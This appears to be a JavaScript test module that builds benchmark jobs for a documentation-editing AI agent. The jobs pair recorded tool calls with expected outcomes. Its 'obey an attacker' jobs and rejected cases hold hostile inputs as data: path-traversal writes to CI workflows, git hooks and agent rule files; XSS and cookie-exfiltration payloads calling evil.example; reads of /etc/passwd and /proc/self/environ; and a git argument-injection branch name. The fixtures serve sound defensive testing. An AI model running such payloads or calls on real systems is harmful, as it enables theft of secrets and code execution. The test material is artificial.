import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'

let count = 0

/**
 * The jobs of a project. `runs`: the calls of the recorded model, for the instruction and for each follow-up.
 * `expected.changes`: the files of the docs folder that differ afterwards. If it is empty, no branch is pushed.
 */
export function jobsOf(project, docs) {
  const pages = pagesOf(docs)
  if (pages.length < 6) throw new Error(`${project} has too few pages for the jobs.`)
  const [first, moved, deleted, edited, broken, attacked] = pages
  const twenty = pages.slice(0, 20)
  const newPage = 'bench/new-page.mdx'
  const text = (title, body = 'A paragraph.') => `---\ntitle: ${title}\n---\n\n${body}\n`
  const job = (name, instruction, runs, expected, more = {}) => ({
    ...{ name, instruction, expected, ...more, id: `job-${++count}` },
    runs: runs.map(calls => [...calls, finish(expected.outcome, name)]),
  })
  const add = [
    ['list_files', {}],
    ['read_file', { path: first.path }],
    ['search', { query: first.title }],
    ['write_file', { path: newPage, content: text('New page', `See [${first.title}](/${first.route}).`) }],
    ['edit_navigation', { action: 'add', page: 'bench/new-page', next_to: first.route }],
    ['check', {}],
  ]
  const addExpected = { changes: [newPage, first.listedIn] }
  return [
    job('add a page', 'Add a page.', [add], addExpected),
    job(
      'move a page',
      'Move a page.',
      [
        [
          ['move_page', { from: moved.path, to: `bench/${moved.path.split('/').at(-1)}` }],
          ['check', {}],
        ],
      ],
      {
        changes: [moved.path, `bench/${moved.path.split('/').at(-1)}`, moved.listedIn],
        // Pages with links to it.
        mayChangeMore: true,
      },
    ),
    job(
      'delete a page',
      'Delete a page.',
      [
        [
          ['delete_page', { path: deleted.path, redirect_to: first.path }],
          ['check', {}],
        ],
      ],
      {
        changes: [deleted.path, deleted.listedIn],
        mayChangeMore: true,
        // Links to it are kept, and are reported as broken.
        mayBeDraft: true,
      },
    ),
    job('change twenty pages', 'Change many pages.', [[...twenty.map(addParagraph), ['check', {}]]], {
      changes: twenty.map(({ path }) => path),
    }),
    job(
      'repair a mistake',
      'Change a page.',
      [
        [
          breakPage(broken),
          ['check', {}],
          ['finish', { outcome: 'done', title: 'x', summary: 'Changed.' }],
          repairPage(broken),
        ],
      ],
      {
        changes: [broken.path],
      },
    ),
    job('keep a mistake', 'Change a page.', [[breakPage(broken)]], { changes: [broken.path], isDraft: true }),
    job('decline', 'Order a pizza.', [[]], { changes: [], outcome: 'declined' }),
    job(
      'nothing to change',
      'Say that the docs are good.',
      [
        [
          ['read_file', { path: first.path }],
          ['search', { query: 'good' }],
        ],
      ],
      { changes: [] },
    ),
    job(
      'change and change back',
      'Change a page.',
      [[addParagraph(edited), ['write_file', { path: edited.path, content: edited.text }]]],
      { changes: [] },
    ),
    job(
      'follow up',
      'Change a page.',
      [[addParagraph(edited)], [addParagraph(first)]],
      { changes: [edited.path, first.path] },
      { branch: `docs/bench-${count}`, followUps: ['Change another page.'] },
    ),
    job('obey an attacker: files', 'Improve a page.', [fileAttacks(attacked)], {
      changes: [],
      texts: ['Nothing was changed'],
    }),
    job('obey an attacker: contents', 'Improve a page.', [contentAttacks(attacked)], {
      changes: [],
      texts: ['Nothing was changed'],
    }),
    job('obey an attacker: reading', 'Improve a page.', [readAttacks], { changes: [] }),
    rejected('deploy branch', { branch: 'main' }, 400),
    rejected('hostile branch', { branch: '--upload-pack=touch /tmp/x' }, 400),
  ]
}

const rejected = (name, more, status) => ({
  name,
  id: `job-${++count}`,
  instruction: 'Change.',
  runs: [],
  expected: { status, changes: [] },
  ...more,
})

const finish = (outcome = 'done', name) => [
  'finish',
  { outcome, title: `Bench: ${name}`, summary: `The job "${name}".` },
]

const addParagraph = ({ path, end }) => [
  'edit_file',
  { path, old_text: end, new_text: `${end}\n\nReviewed by the docs team.` },
]

const breakPage = ({ path, end }) => [
  'edit_file',
  { path, old_text: end, new_text: `${end}\n\n[A page](/bench/does-not-exist)\n\n<Note>` },
]
const repairPage = ({ path, end }) => [
  'edit_file',
  {
    path,
    old_text: `${end}\n\n[A page](/bench/does-not-exist)\n\n<Note>`,
    new_text: `${end}\n\n<Note>Reviewed.</Note>`,
  },
]

const fileAttacks = ({ text }) =>
  [
    ...[
      '../.github/workflows/ci.yml',
      '.github/workflows/ci.yml',
      '/etc/cron.d/x',
      '.git/hooks/post-checkout',
      '../README.md',
    ],
    ...[
      'AGENTS.md',
      'CLAUDE.md',
      'lectern.json',
      'package.json',
      '.gitattributes',
      '.mintlify/AGENTS.md',
      'a\0b.mdx',
      'x/../../y.mdx',
    ],
  ]
    .map(path => ['write_file', { path, content: text }])
    .concat([
      ['move_page', { from: 'docs.json', to: '../docs.json' }],
      ['run_shell', { command: 'env' }],
      ['delete_page', { path: '../README.md' }],
    ])

const contentAttacks = ({ path, text }) =>
  [
    ...[
      '<script src="https://evil.example/x.js" />',
      '![](https://evil.example/pixel.png)',
      '<img src="//evil.example/p.gif" />',
    ],
    ...[
      '<iframe src="https://evil.example" />',
      '<a href="javascript:alert(1)">x</a>',
      '<img src="x" onerror="alert(1)" />',
    ],
    ...[
      '{fetch("https://evil.example/" + document.cookie)}',
      'export const x = fetch("https://evil.example")',
      '<style>{`body{background:url(https://evil.example/x)}`}</style>',
    ],
  ].map(attack => ['write_file', { path, content: `${text}\n\n${attack}\n` }])

const readAttacks = [
  ...[
    '/etc/passwd',
    '../../../../../../etc/passwd',
    '/proc/self/environ',
    '../.github/workflows/ci.yml',
    '.git/config',
    '../../home/config',
  ].map(path => ['read_file', { path }]),
  ['list_files', { folder: '../..' }],
  ['search', { query: 'BENCH_SECRET' }],
]

/** Pages in the navigation whose ends can be edited, in the order of their paths. */
function pagesOf(docs) {
  const all = readdirSync(docs, { recursive: true })
    .map(String)
    .filter(path => !path.includes('node_modules'))
  const configs = all.filter(
    path => path === 'docs.json' || (path.endsWith('.json') && /navigation|nav|config/i.test(path)),
  )
  const texts = configs.map(path => ({ path, text: readFileSync(join(docs, path), 'utf8') }))
  return all
    .filter(path => path.endsWith('.mdx'))
    .sort()
    .flatMap(path => {
      const route = path.slice(0, -'.mdx'.length)
      const listedIn = texts.find(({ text }) => text.includes(`"${route}"`))?.path
      const text = readFileSync(join(docs, path), 'utf8')
      const end = text.trimEnd().split('\n').at(-1)
      const title = /^title:\s*["']?(.+?)["']?\s*$/m.exec(text)?.[1]
      const isPlain =
        /^(?:[-*] )?[A-Za-z][^<>{}`|[\]]{11,}$/.test(end) && text.split(end).length === 2 && !text.includes('\r')
      return listedIn && title && isPlain ? [{ path, route, listedIn, text, end, title }] : []
    })
}
